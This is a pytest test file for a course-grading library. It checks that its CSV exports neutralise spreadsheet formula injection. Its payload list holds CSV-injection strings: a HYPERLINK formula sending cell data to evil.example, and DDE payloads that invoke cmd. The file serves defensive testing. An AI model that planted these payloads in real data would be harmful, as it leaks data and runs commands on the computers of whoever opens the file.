"""Every CSV a teacher opens in a spreadsheet is safe from formula injection (issue 34, item 6):
a student name, an answer, a message or a roster name that begins with =, +, -, @, a tab or a
carriage return (also after spaces) is text in the gradebook, its summary and texts, the
nbgrader and Canvas exports and collected.csv; numbers stay numbers; and no module writes CSV
but `course_lib/grading/csvsafe.py`.
"""

import csv
import json
import re
from pathlib import Path

import pytest

from course_lib.classroom import exports
from course_lib.classroom.collect import collect
from course_lib.classroom.roster import Roster
from course_lib.grading import csvsafe
from course_lib.grading.gradebook import TOTAL, Gradebook, paths, write_texts

ROOT = Path(__file__).resolve().parent.parent
LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
PAYLOADS = [
    LINK,
    " " + LINK,  # after leading spaces: spreadsheets trim them and still run the formula
    "\u00a0" + LINK,
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  \t-1+1",
]


def runs_as_formula(cell: str) -> bool:
    """Would a spreadsheet read this cell as a formula? (what OWASP's guidance names)"""
    if csvsafe.NUMBER.fullmatch(cell):
        return False
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r") or cell.lstrip()[:1] in ("=", "+", "-", "@")


def cells(path) -> list:
    with open(path, newline="", encoding="utf-8") as f:
        return [c for row in csv.reader(f) for c in row]


def assert_inert(path) -> None:
    live = [c for c in cells(path) if runs_as_formula(c)]
    assert not live, f"{path.name}: cells a spreadsheet runs: {live}"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_neutral_prefixes_every_formula_start_and_keeps_numbers(payload):
    assert csvsafe.neutral(payload) == "'" + payload
    for number in ("-1.5", "+2", "-0", "3e-5", ".5"):
        assert csvsafe.neutral(number) == number
    assert csvsafe.text([[-1.5, 2, "-1.5"]]) == "-1.5,2,-1.5\n"  # numbers written as numbers
    assert csvsafe.neutral("a =1") == "a =1"


def graded(tmp_path, payload) -> Path:
    """A gradebook with its summary and texts, a submission named and answering `payload`."""
    out = tmp_path / "grades.csv"
    book = Gradebook(out, fresh=True)
    for name in (payload, "bob"):
        row = dict(submission=name, exercise="ch01.pick_device", points=1.0, max_points=2.0)
        row.update(status="incorrect", detail=payload, flags=payload)
        total = dict(row, exercise=TOTAL, status="graded", detail="")
        book.append(name, [row, total])
    book.write_summary(paths(out)["summary"], notes=[payload])
    write_texts(paths(out)["texts"], {payload: {"texts": {payload: payload}}, "bob": {}})
    return out


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_gradebook_its_summary_and_texts_are_inert(tmp_path, payload):
    out = graded(tmp_path, payload)
    for path in (out, paths(out)["summary"], paths(out)["texts"]):
        assert_inert(path)
    summary = list(csv.reader(open(paths(out)["summary"], newline="")))
    assert summary[1][1:4] == ["1", "2", "50.0"]  # points stay numbers


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_nbgrader_and_canvas_exports_are_inert(tmp_path, payload):
    """The payload as a submission the roster lacks (exported under its own name) and as every
    text field of a roster row."""
    out = graded(tmp_path, payload)
    roster = tmp_path / "roster.csv"
    fields = ["id", "name", "email", "username", "section", "canvas_id", "sis_login_id"]
    with open(roster, "w", newline="") as f:
        csv.writer(f).writerows([fields, ["S1", payload, payload + "@x", "bob"] + [payload] * 3])
    table = Roster.read(roster)
    report = exports.export(out, ["nbgrader", "canvas"], table)
    for fmt in ("nbgrader", "canvas"):
        assert_inert(Path(report.files[fmt]))
    nbgrader = list(csv.reader(open(report.files["nbgrader"], newline="")))
    assert all(re.fullmatch(r"[\d.]+", r[7]) for r in nbgrader[1:])  # raw_score: a number


@pytest.mark.parametrize("payload", [LINK, " " + LINK, "-2+3+cmd|' /C calc'!A0"])
def test_collected_csv_is_inert(tmp_path, payload):
    """A home folder named with a formula (its user cannot be a file name: not collected, but
    listed) and a notebook folder named with one (in the ambiguous note)."""
    homes = tmp_path / "home"
    (homes / payload.replace("/", "_")).mkdir(parents=True)
    nb = {"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    for folder in (payload.replace("/", "_").strip(), "b"):
        path = homes / "ann" / folder / "01_device_check.ipynb"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(json.dumps(nb))
    collect(homes, tmp_path / "subs", "01", owner_check=False)
    assert_inert(tmp_path / "subs" / "collected.csv")
    users = [r[0] for r in csv.reader(open(tmp_path / "subs" / "collected.csv"))]
    assert any(u.endswith(payload.replace("/", "_")) for u in users)  # listed, as text


def test_no_module_writes_csv_but_the_one_writer():
    writers = re.compile(r"csv\s*\.\s*(writer|DictWriter)\b|\b(writer|DictWriter)\s*\(")
    found = [
        str(p.relative_to(ROOT))
        for p in sorted((ROOT / "course_lib").rglob("*.py"))
        if p.name != "csvsafe.py" and writers.search(p.read_text(encoding="utf-8"))
    ]
    assert not found, f"CSV written outside course_lib/grading/csvsafe.py: {found}"
